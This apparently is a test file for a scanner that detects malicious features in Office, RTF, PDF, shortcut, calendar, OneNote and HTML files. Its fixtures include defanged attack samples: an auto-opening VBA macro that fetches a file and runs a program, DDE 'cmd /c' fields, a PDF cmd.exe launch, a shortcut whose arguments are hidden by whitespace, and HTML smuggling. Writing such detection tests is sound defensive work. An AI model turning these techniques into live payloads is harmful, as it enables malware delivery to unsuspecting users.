import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CompoundFile } from '../../src/message/compound-file.ts';
import { decompressVba } from '../../src/unpack/office/vba.ts';
import { assertLinear } from '../growth.ts';
import {
  compressVba,
  harmlessProgram,
  makeCompound,
  makeOoxml,
  makePackage,
  makePdf,
  makeShortcut,
  makeVbaProject,
  makeZip,
  pdfStream,
  vbaStreams,
} from './containers.ts';
import { listOf, opened, saysOf } from './opening.ts';

/** Says what attackers' macros say, and does nothing: it is never run, and names nobody. */
const MACRO = `Sub Helper()\r\nEnd Sub\r\n\r\nSub AutoOpen()\r\n  Set x = CreateObject("MSXML2.XMLHTTP")\r\n  x.Open "GET", "http://files.example.net/a.bin", False\r\n  CreateObject("WScript.Shell").Run "notepad"\r\nEnd Sub\r\n`;

test('the compression of MS-OVBA opens: the example of §3.2.2, and copies that overlap themselves', () => {
  // §3.2.2, "normal compression example"
  const compressed = Buffer.from(
    '012fb000236161616263648265666768696a616b6c00306d6e6f700671023c047 2737475767710797a 7b7c007d7e7f'.replaceAll(
      ' ',
      '',
    ),
    'hex',
  );
  const text = Buffer.from(decompressVba(compressed)).toString('latin1');
  assert.ok(
    text.startsWith('#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa') || text.startsWith('#aaabcd'),
    text,
  );
  // §3.2.3: 73 letters a of one literal and one copy
  const same = decompressVba(Buffer.from('0103b002614500', 'hex'));
  assert.equal(Buffer.from(same).toString('latin1'), 'a'.repeat(73));
  const source = 'Sub A()\r\n'.repeat(900);
  assert.equal(Buffer.from(decompressVba(compressVba(source))).toString('latin1'), source);
});

for (const [name, file] of [
  ['an Office file of today', makeOoxml([{ name: 'word/vbaProject.bin', data: makeVbaProject(MACRO) }])],
  [
    'Word 97',
    makeCompound([
      { path: 'WordDocument', data: Buffer.alloc(64) },
      ...vbaStreams('Macros/VBA/', [{ name: 'Module1', source: MACRO }]),
    ]),
  ],
] as const)
  test(`the macro of ${name} is read: what starts it, what it fetches and runs, each with its line`, () => {
    const result = opened(file, 'order.doc');
    assert.deepEqual(saysOf(result, 'macro'), ['Module1']);
    const lines = result.signs
      .filter(({ kind }) => kind.startsWith('macro-'))
      .map(({ kind, line, says }) => [kind, line, says]);
    assert.deepEqual(lines, [
      ['macro-starts-itself', 5, 'Module1: Sub AutoOpen()'],
      ['macro-downloads', 6, 'Module1: Set x = CreateObject("MSXML2.XMLHTTP")'],
      ['macro-runs-program', 8, 'Module1: CreateObject("WScript.Shell").Run "notepad"'],
    ]);
    assert.deepEqual(
      result.links.map(({ url }) => url),
      ['http://files.example.net/a.bin'],
    );
  });

test('a module that the project does not list is read all the same', () => {
  const streams = vbaStreams('VBA/', [{ name: 'Module1', source: MACRO }]);
  const stomped = makeCompound([{ path: 'VBA/dir', data: Buffer.alloc(16) }, ...streams.slice(1)]);
  assert.deepEqual(saysOf(opened(stomped), 'macro'), ['Module1']);
});

test('a sheet whose modules are empty carries no macro', () => {
  assert.deepEqual(opened(makeVbaProject('', 'Sheet1')).signs, []);
});

test('fields that call a program, templates and objects from outside are told, a hyperlink is only a link', () => {
  const relations = (type: string, target: string): string =>
    `<Relationship Type="http://schemas.example/${type}" Target="${target}" TargetMode="External"/>`;
  const result = opened(
    makeOoxml([
      { name: 'word/_rels/settings.xml.rels', data: relations('attachedTemplate', 'http://t.example.net/n.dotm') },
      {
        name: 'word/_rels/document.xml.rels',
        data:
          relations('hyperlink', 'https://www.example.com/?a=1&amp;b=2') +
          relations('oleObject', 'mhtml:http://o.example.net/x!a') +
          relations('image', 'https://img.example.com/logo.png'),
      },
      { name: 'xl/externalLinks/externalLink1.xml', data: '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>' },
      {
        name: 'word/header1.xml',
        data: '<w:instrText>DD</w:instrText><x/><w:instrText xml:space="preserve">EAUTO c:\\windows\\x "y"</w:instrText>',
      },
    ]),
  );
  assert.deepEqual(saysOf(result, 'remote-template'), ['http://t.example.net/n.dotm']);
  assert.deepEqual(saysOf(result, 'remote-object'), ['mhtml:http://o.example.net/x!a']);
  assert.deepEqual(saysOf(result, 'dde'), ['cmd|/c calc', 'DDEAUTO c:\\windows\\x "y"']);
  assert.ok(result.links.some(({ url }) => url === 'https://www.example.com/?a=1&b=2'));
});

test('a file dropped into a document comes out of it, under its name', () => {
  const result = opened(
    makeOoxml([
      {
        name: 'word/embeddings/oleObject1.bin',
        data: makeCompound([{ path: '\x01Ole10Native', data: makePackage('invoice.exe', harmlessProgram) }]),
      },
    ]),
  );
  assert.deepEqual(listOf(result), ['1 word/embeddings/oleObject1.bin inflated', '2 invoice.exe embedded']);
  assert.equal(result.inside[1]?.type, 'application/vnd.microsoft.portable-executable');
});

test('a workbook of Excel 97 tells its macro sheets, the name that starts them, and its password', () => {
  const record = (type: number, data: Buffer): Buffer => {
    const head = Buffer.alloc(4);
    head.writeUInt16LE(type, 0);
    head.writeUInt16LE(data.length, 2);
    return Buffer.concat([head, data]);
  };
  const name = Buffer.alloc(16);
  name[0] = 0x20;
  name[3] = 1;
  name[15] = 1;
  const stream = Buffer.concat([
    record(0x809, Buffer.alloc(16)),
    record(0x85, Buffer.concat([Buffer.alloc(4), Buffer.from([2, 1, 6, 0]), Buffer.from('Macro1')])),
    record(0x85, Buffer.concat([Buffer.alloc(4), Buffer.from([0, 0, 6, 0]), Buffer.from('Sheet1')])),
    record(0x18, name),
  ]);
  const result = opened(makeCompound([{ path: 'Workbook', data: stream }]));
  assert.deepEqual(saysOf(result, 'excel4-macro'), ['Macro1 (very hidden)']);
  assert.deepEqual(saysOf(result, 'macro-starts-itself'), ['Auto_Open']);
  const closed = opened(
    makeCompound([{ path: 'Workbook', data: Buffer.concat([record(0x2f, Buffer.alloc(4)), stream]) }]),
  );
  assert.equal(closed.encrypted, true);
  assert.equal(opened(makeCompound([{ path: 'EncryptedPackage', data: 'x' }])).encrypted, true);
});

test('an object of RTF comes out through noise, and its class is told', () => {
  const inner = makePackage('a.exe', harmlessProgram).subarray(4);
  const counted = (text: string): Buffer =>
    Buffer.concat([Buffer.from([text.length + 1, 0, 0, 0]), Buffer.from(`${text}\0`)]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(inner.length);
  const object = Buffer.concat([
    Buffer.from('0105000002000000', 'hex'),
    counted('Package'),
    Buffer.alloc(8),
    size,
    inner,
  ]).toString('hex');
  const noisy = object.replace(/(.{16})/g, '$1{\\noise 41}\r\n\\x9 ');
  const result = opened(
    Buffer.from(
      `{\\rtf1{\\*\\template http://t.example.net/a.dotm}{\\object\\objemb\\objupdate{\\*\\objdata ${noisy}}}{\\field{\\*\\fldinst {DDEA}{UTO cmd "/c"}}}}`,
    ),
  );
  assert.deepEqual(saysOf(result, 'embedded-object'), ['Package', 'a.exe']);
  assert.deepEqual(listOf(result), ['1 a.exe embedded']);
  assert.deepEqual(saysOf(result, 'remote-template'), ['http://t.example.net/a.dotm']);
  assert.deepEqual(saysOf(result, 'starts-itself'), ['\\objupdate']);
  assert.deepEqual(saysOf(result, 'dde'), ['DDEAUTO cmd "/c"']);
});

test('a PDF tells links, scripts that start, launches and files, also out of packed objects and disguised names', () => {
  const result = opened(
    makePdf([
      '<< /Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >>',
      '<< /Type /Annot /A << /S /URI /URI (https://www.example.net/a\\(1\\)) >> >>',
      pdfStream(
        '/Type /ObjStm /N 1 /First 4',
        '5 0 << /A << /S /URI /URI <68747470733a2f2f68657870616765642e6578616d706c652f> >> >>',
      ),
      '<< /S /Launch /F (cmd.exe) >>',
      '<< /Type /Filespec /UF (report.exe) /EF << /F 6 0 R >> >>',
      pdfStream('/Type /EmbeddedFile', harmlessProgram),
    ]),
    'a.pdf',
  );
  assert.deepEqual(
    result.links.map(({ url }) => url),
    ['https://www.example.net/a(1)', 'https://hexpaged.example/'],
  );
  assert.deepEqual(saysOf(result, 'script'), ['app.alert(1)']);
  assert.deepEqual(saysOf(result, 'starts-itself'), ['OpenAction']);
  assert.deepEqual(saysOf(result, 'launch'), ['cmd.exe']);
  assert.deepEqual(listOf(result), ['1 report.exe embedded']);
  assert.equal(result.encrypted, false);
  const sealed = opened(makePdf(['<< /Encrypt 3 0 R >>']));
  assert.deepEqual([sealed.encrypted, sealed.unopened], [false, 'method']);
});

test('a PDF that only says which page comes first starts nothing', () => {
  const result = opened(
    makePdf(['<< /Type /Catalog /OpenAction [3 0 R /Fit] >>', '<< /OpenAction << /S /GoTo /D [1 0 R] >> >>']),
  );
  assert.deepEqual(result.signs, []);
});

test('a shortcut tells what it starts, with the words that spaces push out of sight', () => {
  const result = opened(
    makeShortcut('..\\..\\Windows\\System32\\cmd.exe', `${' '.repeat(400)}/c start https://www.example.net/x`),
    'a.pdf.lnk',
  );
  assert.deepEqual(saysOf(result, 'shortcut-target'), ['..\\..\\Windows\\System32\\cmd.exe']);
  assert.deepEqual(saysOf(result, 'shortcut-arguments'), ['/c start https://www.example.net/x']);
  assert.deepEqual(
    result.links.map(({ url }) => url),
    ['https://www.example.net/x'],
  );
});

test('an invitation tells who sends it, and where its words lead', () => {
  const text = [
    'BEGIN:VCALENDAR',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'ORGANIZER;CN="Desk: help":mailto:desk@example.net',
    'DESCRIPTION:こちらhttps://meet.example.net/r?\\;a=1で参加',
    ' してください\\nNext line',
    'URL:https://www.example.net/',
    'END:VEVENT',
    'END:VCALENDAR',
  ].join('\r\n');
  const result = opened(Buffer.from(text), 'invite.ics');
  assert.deepEqual(saysOf(result, 'organiser'), ['desk@example.net']);
  assert.deepEqual(saysOf(result, 'calendar-method'), ['REQUEST']);
  assert.ok(result.links.some(({ url }) => url.startsWith('https://meet.example.net/r')));
  assert.ok(result.links.some(({ url }) => url === 'https://www.example.net/'));
});

test('a page of OneNote gives the files that were dropped into it', () => {
  const size = Buffer.alloc(8);
  size.writeUInt32LE(harmlessProgram.length);
  const page = Buffer.concat([
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
    Buffer.alloc(512),
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
    size,
    Buffer.alloc(12),
    harmlessProgram,
  ]);
  const result = opened(page, 'notes.one');
  assert.equal(result.inside[0]?.type, 'application/vnd.microsoft.portable-executable');
});

test('a page that builds a file gives the file, and one with a picture inside is silent', () => {
  const zip = makeZip([
    {
      name: 'a.exe',
      data: Buffer.concat([harmlessProgram, Buffer.from(Array.from({ length: 900 }, (_, i) => (i * i) % 255))]),
      stored: true,
    },
  ]);
  const page = `<html><script>x=atob("${zip.toString('base64')}");l=URL.createObjectURL(new Blob([x]))</script></html>`;
  const result = opened(Buffer.from(page), 'a.html');
  assert.deepEqual(listOf(result), ['1 carved.zip carved', '2 a.exe stored']);
  assert.equal(saysOf(result, 'smuggling').length, 1);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><script>location.href="data:application/zip;base64,${zip.toString('base64')}"</script></svg>`;
  assert.deepEqual(listOf(opened(Buffer.from(svg), 'a.svg')), ['1 carved.zip carved', '2 a.exe stored']);
  const picture = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(2000, 1)]).toString('base64');
  const calm = opened(Buffer.from(`<html><img src="data:image/png;base64,${picture}"></html>`), 'b.html');
  assert.deepEqual([calm.inside, saysOf(calm, 'smuggling')], [[], []]);
});

test('a page that was written in percents is opened, and its form found', () => {
  const inner = `<html><body><form action="https://in.example.net/"><input type=password>${'<p>text</p>'.repeat(30)}</form></body></html>`;
  const escaped = inner.replace(/[<>"= :/]/g, (c) => `%${c.charCodeAt(0).toString(16)}`);
  const result = opened(Buffer.from(`<html><script>document.write(unescape('${escaped}'))</script></html>`), 'a.html');
  assert.deepEqual(saysOf(result, 'password-form'), ['1']);
});

test('a page is read by the charset that it names, as a browser reads it', () => {
  const page = (charset: string): Buffer =>
    Buffer.from(
      `<meta charset=${charset}><form action="https://in.example.net/"><input type="pass\x1b(Bword"></form>`,
      'latin1',
    );
  assert.deepEqual(saysOf(opened(page('iso-2022-jp'), 'a.html'), 'password-form'), ['1']);
  assert.deepEqual(saysOf(opened(page('utf-8'), 'a.html'), 'password-form'), []);
  const sjis = Buffer.concat([Buffer.from('<html><meta charset=Shift_JIS><p>'), Buffer.from('8a6d9446', 'hex')]);
  assert.equal(opened(sjis, 'a.html').texts[0]?.seen, '確認');
});

test('a compound file whose chains turn in circles, or share their sectors, is read to an end', () => {
  const file = makeCompound([
    { path: 'A', data: Buffer.alloc(20_000, 'a') },
    { path: 'B/C', data: 'small' },
  ]);
  const circle = Buffer.from(file);
  const fat = circle.length - 512;
  for (let i = 0; i < 512; i += 4) circle.writeUInt32LE(1, fat + i);
  const read = CompoundFile.read(circle);
  for (const entry of read?.entries ?? []) read?.stream(entry);
  assert.ok(read !== undefined);
  const whole = CompoundFile.read(file);
  assert.equal(Buffer.from(whole?.stream('b/c') ?? []).toString(), 'small');
  assert.equal(whole?.stream('A').length, 20_000);
  // a thousand entries of one chain
  const shared = CompoundFile.read(
    makeCompound(Array.from({ length: 3 }, (_, i) => ({ path: `S${i}`, data: Buffer.alloc(40_000) }))),
  );
  for (let i = 0; i < 1000; i++) for (const entry of shared?.entries ?? []) shared?.stream(entry);
  assert.equal(shared?.isPartial, true);
});

test('each reader takes linear time', () => {
  const rtf = (n: number): Buffer => Buffer.from(`{\\rtf1${'{\\object\\objdata 0'.repeat(n)}`);
  const pdf = (n: number): Buffer => Buffer.from(`%PDF-1.4\n${'stream\n'.repeat(n)}`);
  const names = (n: number): Buffer => Buffer.from(`%PDF-1.4\n${'/URI (/OpenAction /AA /JS ('.repeat(n)}`);
  const page = (n: number): Buffer => Buffer.from(`<html><script>${'%3c'.repeat(n)}"${'atob("A'.repeat(n)}`);
  const calendar = (n: number): Buffer => Buffer.from(`BEGIN:VCALENDAR\n${'URL;"a:'.repeat(n)}`);
  const macro = (n: number): Buffer => makeVbaProject(`Sub A()\n${"'shell(powershell http://x'\n".repeat(n)}`);
  for (const [name, make] of Object.entries({ rtf, pdf, names, page, calendar, macro }))
    assertLinear(name, 2000, make, (bytes) => opened(bytes, 'x'));
});
